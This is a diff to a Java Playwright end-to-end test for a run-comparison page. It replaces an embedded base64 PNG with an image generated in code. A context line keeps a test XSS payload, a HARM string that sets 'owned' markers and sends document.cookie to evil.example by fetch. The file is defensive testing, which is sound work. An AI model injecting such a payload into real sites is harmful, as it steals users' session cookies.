@@ -4,9 +4,13 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.microsoft.playwright.Browser;
 import com.microsoft.playwright.Playwright;
-import java.util.Base64;
+import java.awt.image.BufferedImage;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.util.List;
 import java.util.Map;
+import javax.imageio.ImageIO;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -15,9 +19,6 @@ import org.junit.jupiter.api.Test;
 /// do harm.
 class CompareE2E {
     private static final String PROJECT = "/t/acme/p/churn";
-    private static final String PICTURE =
-            "iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEUlEQVR42mP4z8AARwzEcQCukw/x0F8jngAAAABJRU5ErkJggg==";
-
     /// Whatever of it runs says so: in the page, in its own frame, or to another server.
     private static final String HARM =
             "window.owned = 1; document.body.dataset.owned = 1; top.owned = 1; fetch('https://evil.example/' + document.cookie)";
@@ -94,7 +95,7 @@ class CompareE2E {
         runs.file(run, "conf/settings.yaml", "model:\n  depth: 3\n");
         runs.file(run, "metrics.json", "{\"auc\":0.9,\"by\":{\"age\":[1,2]}}");
         runs.file(run, "log.txt", "first\nsecond\n");
-        runs.file(run, "plot.png", Base64.getDecoder().decode(PICTURE));
+        runs.file(run, "plot.png", picture());
         runs.file(run, "weights.xyz", new byte[] {0, 1, 2, (byte) 0xff});
         runs.file(
                 run,
@@ -227,6 +228,16 @@ class CompareE2E {
                 name,
                 Map.of("learning_rate", rate, "seed", seed, "batch_size", "32"),
                 Map.of("loss", new double[] {1, loss}));
+    }
+
+    private static byte[] picture() {
+        var bytes = new ByteArrayOutputStream();
+        try {
+            ImageIO.write(new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB), "png", bytes);
+        } catch (IOException impossible) {
+            throw new UncheckedIOException(impossible);
+        }
+        return bytes.toByteArray();
     }
 
     private static String compare(RunsByHand.Made... made) {
